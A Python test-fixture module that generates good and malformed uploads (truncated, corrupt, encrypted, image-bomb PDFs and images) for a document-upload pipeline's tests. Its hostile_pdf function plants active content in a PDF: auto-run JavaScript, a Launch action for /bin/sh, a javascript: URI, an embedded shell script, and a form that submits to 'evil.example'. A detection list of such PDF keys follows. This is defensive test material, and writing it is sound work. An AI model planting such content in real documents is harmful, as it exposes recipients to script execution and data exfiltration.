"""Generated uploads for the packet tests and benchmark: good ones and every kind of bad one.

Nothing binary is committed; each function writes a small, real file of its kind.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pikepdf
import pillow_heif
import typst
from PIL import Image, ImageDraw

LETTER = (612, 792)
A4 = (595, 842)

_TEXT_PDF = """
#let d = json(bytes(sys.inputs.data))
#set page(width: d.width * 1pt, height: d.height * 1pt, margin: 72pt)
#set text(size: 14pt)
#for i in range(d.pages) {
  if i > 0 { pagebreak() }
  [#d.title page #(i + 1)]
  v(12pt)
  lorem(120)
}
"""


def text_pdf(
    path: Path, pages: int = 1, *, size: tuple[int, int] = LETTER, title: str | None = None, rotate: int = 0
) -> Path:
    data = {"width": size[0], "height": size[1], "pages": pages, "title": title or path.stem}
    pdf = typst.compile(_TEXT_PDF.encode(), format="pdf", sys_inputs={"data": json.dumps(data)})
    if rotate:
        with pikepdf.open(io.BytesIO(pdf)) as doc:
            for page in doc.pages:
                page.Rotate = rotate
            doc.save(path)
    else:
        path.write_bytes(pdf)
    return path


def photo(size: tuple[int, int] = (600, 450), colour: str = "steelblue") -> Image.Image:
    image = Image.new("RGB", size, colour)
    draw = ImageDraw.Draw(image)
    draw.rectangle((10, 10, size[0] // 2, size[1] // 3), fill="white")
    draw.text((20, 20), "TOP", fill="black")
    return image


def jpeg(path: Path, size: tuple[int, int] = (600, 450), *, exif_orientation: int | None = None) -> Path:
    image = photo(size)
    if exif_orientation:
        exif = Image.Exif()
        exif[0x0112] = exif_orientation
        image.save(path, "JPEG", exif=exif.tobytes())
    else:
        image.save(path, "JPEG")
    return path


def png(path: Path, size: tuple[int, int] = (450, 600), mode: str = "RGB") -> Path:
    photo(size).convert(mode).save(path, "PNG")
    return path


def tiff(path: Path, frames: int = 3) -> Path:
    pages = [photo((425, 550), colour) for colour in ("white", "lightgrey", "beige", "white")[:frames]]
    pages[0].save(path, "TIFF", save_all=True, append_images=pages[1:])
    return path


def heic(path: Path, size: tuple[int, int] = (480, 640)) -> Path:
    heif = pillow_heif.from_pillow(photo(size, "darkseagreen"))
    heif.save(str(path), quality=70)
    return path


def scan(path: Path, *, dpi: int = 300, kind: str = "jpeg") -> Path:
    """A heavy full-page scan of a Letter page; the noise makes it weigh what the stack spike's
    scans did (JPEG about 1 MB, 8-bit PNG about 4.5 MB at 300 dpi)."""
    width, height = int(8.5 * dpi), int(11 * dpi)
    noise = Image.effect_noise((width, height), 64).point(lambda v: 200 + v // 16)
    draw = ImageDraw.Draw(noise)
    for y in range(dpi, height - dpi, dpi // 4):
        draw.line((dpi, y, width - dpi, y), fill=40, width=max(1, dpi // 100))
    if kind == "jpeg":
        noise.convert("RGB").save(path, "JPEG", quality=85, dpi=(dpi, dpi))
    else:
        noise.save(path, "PNG", dpi=(dpi, dpi))
    return path


# --- bad uploads ----------------------------------------------------------------------------


def zero_bytes(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def truncated_pdf(path: Path, keep: float = 0.5) -> Path:
    """A PDF cut short, as an interrupted download leaves it. At 0.5 qpdf cannot recover it."""
    whole = path.with_suffix(".whole")
    text_pdf(whole, pages=3)
    data = whole.read_bytes()
    whole.unlink()
    path.write_bytes(data[: int(len(data) * keep)])
    return path


def corrupt_pdf(path: Path) -> Path:
    path.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n")
    return path


def password_pdf(path: Path, *, user: str = "secret") -> Path:
    source = path.with_suffix(".plain")
    text_pdf(source, pages=2)
    with pikepdf.open(source) as doc:
        doc.save(path, encryption=pikepdf.Encryption(user=user, owner="owner-" + user, R=6))
    source.unlink()
    return path


def owner_only_pdf(path: Path) -> Path:
    """Encrypted with an owner password only, as bank statements often are: opens freely."""
    return password_pdf(path, user="")


def image_bomb(path: Path) -> Path:
    """A tiny PNG that claims more pixels than Pillow's decompression-bomb limit."""
    limit = Image.MAX_IMAGE_PIXELS or 89_478_485
    side = int(limit**0.5) + 200
    Image.new("1", (side, side), 1).save(path, "PNG")
    return path


def jpeg_named_pdf(path: Path) -> Path:
    buffer = io.BytesIO()
    photo().save(buffer, "JPEG")
    path.write_bytes(buffer.getvalue())
    return path


def word_file(path: Path) -> Path:
    path.write_bytes(b"PK\x03\x04" + b"\x00" * 200)
    return path


def truncated_jpeg(path: Path) -> Path:
    buffer = io.BytesIO()
    photo((800, 600)).save(buffer, "JPEG")
    path.write_bytes(buffer.getvalue()[: len(buffer.getvalue()) // 2])
    return path


def damaged_png(path: Path) -> Path:
    """A PNG whose pixel data was altered in transit: its chunk checksum no longer matches."""
    buffer = io.BytesIO()
    photo((300, 200)).save(buffer, "PNG")
    data = bytearray(buffer.getvalue())
    start = data.index(b"IDAT") + 20
    data[start : start + 8] = b"\x00" * 8
    path.write_bytes(bytes(data))
    return path


def pageless_pdf(path: Path) -> Path:
    with pikepdf.new() as pdf:
        pdf.save(path)
    return path


_EDGE_PDF = """
#let d = json(bytes(sys.inputs.data))
#set page(width: 612pt, height: 792pt, margin: 0pt, fill: luma(235))
#set text(size: 12pt)
#place(top + left, dx: 4pt, dy: 4pt)[#d.title TOP LEFT]
#place(bottom + center, dy: -2pt)[#d.title AT THE VERY FOOT OF THE PAGE, WHERE A STAMP WOULD GO]
#place(bottom + right, dx: -2pt, dy: -2pt)[BOTTOM RIGHT]
"""


def edge_pdf(path: Path, *, title: str = "EDGE") -> Path:
    """A page whose grey background and text run to the very edges, as a full-bleed scan does."""
    pdf = typst.compile(_EDGE_PDF.encode(), format="pdf", sys_inputs={"data": json.dumps({"title": title})})
    path.write_bytes(pdf)
    return path


def blank_repaired_pdf(path: Path) -> Path:
    """A PDF whose cross-reference table is broken and whose page contents are destroyed: qpdf
    "repairs" it, but every page comes out blank."""
    whole = path.with_suffix(".whole")
    text_pdf(whole, pages=2, title="LOST")
    data = bytearray(whole.read_bytes())
    whole.unlink()
    start = 0
    while True:
        at = data.find(b"stream\n", start)
        if at < 0:
            break
        end = data.find(b"endstream", at)
        for i in range(at + 7, end - 1):  # the compressed content becomes noise
            data[i] = (data[i] * 7 + 13) % 256
        start = end + 9
    cut = data.rfind(b"startxref")
    path.write_bytes(bytes(data[:cut]))  # and the trailer is gone: qpdf must reconstruct it
    return path


def hostile_pdf(path: Path, pages: int = 2) -> Path:
    """A text PDF carrying every kind of active content an attacker would plant.

    Document: an OpenAction and a document-level script, /AA on the catalogue, an embedded
    file, an XFA form. Page 1: page-open JavaScript (/AA), a link that launches /bin/sh, a
    link to a web page (kept) whose /Next chain runs JavaScript, a javascript: URI, a file
    attachment annotation. Page 2: a form field that submits the form to a web address."""
    text_pdf(path, pages, title="HOSTILE")
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        js = lambda code: pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))  # noqa: E731
        pdf.Root.OpenAction = pdf.make_indirect(js("app.alert('open')"))
        pdf.Root.AA = pikepdf.Dictionary(WC=js("app.alert('close')"))
        attached = pikepdf.AttachedFileSpec(pdf, b"#!/bin/sh\necho owned\n", filename="payload.sh")
        pdf.attachments["payload.sh"] = attached
        names = pdf.Root.Names
        names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("doc"), js("this.x=1")]))
        first = pdf.pages[0].obj
        first.AA = pikepdf.Dictionary(O=js("app.alert('page open')"))
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"))
        web = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"), Next=js("app.alert('next')")
        )
        bad_uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))

        def annot(subtype: str, action: pikepdf.Dictionary | None, **extra: object) -> pikepdf.Object:
            d = pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[72, 72, 200, 100]
            )
            if action is not None:
                d.A = action
            for key, value in extra.items():
                d[pikepdf.Name("/" + key)] = value
            return pdf.make_indirect(d)

        first.Annots = pdf.make_indirect(
            pikepdf.Array(
                [
                    annot("/Link", launch),
                    annot("/Link", web),
                    annot("/Link", bad_uri),
                    annot("/FileAttachment", None, FS=attached.obj, Contents=pikepdf.String("x")),
                ]
            )
        )
        if pages > 1:
            submit = pikepdf.Dictionary(
                S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/collect")
            )
            widget = annot("/Widget", submit, FT=pikepdf.Name.Btn, T=pikepdf.String("send"))
            pdf.pages[1].obj.Annots = pdf.make_indirect(pikepdf.Array([widget]))
            pdf.Root.AcroForm = pikepdf.Dictionary(
                Fields=pikepdf.Array([widget]), XFA=pikepdf.String("<xdp/>")
            )
        pdf.save(path)
    return path


ACTIVE_KEYS = (
    "/JS",
    "/JavaScript",
    "/Launch",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/SubmitForm",
    "/AA",
    "/OpenAction",
    "/FileAttachment",
    "/XFA",
)


def active_keys(path: Path) -> set[str]:
    """Every name of ACTIVE_KEYS used anywhere in ``path``, as a key or as a value."""
    found: set[str] = set()
    seen: set[tuple[int, int]] = set()

    def walk(obj: object, depth: int = 0) -> None:
        if depth > 50:
            return
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                return
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Name):
            if str(obj) in ACTIVE_KEYS:
                found.add(str(obj))
        elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
            for key, value in obj.items():
                if key in ACTIVE_KEYS:
                    found.add(key)
                walk(value, depth + 1)
        elif isinstance(obj, pikepdf.Array):
            for value in obj:
                walk(value, depth + 1)

    with pikepdf.open(path) as pdf:
        walk(pdf.trailer)
        for obj in pdf.objects:
            walk(obj)
    return found
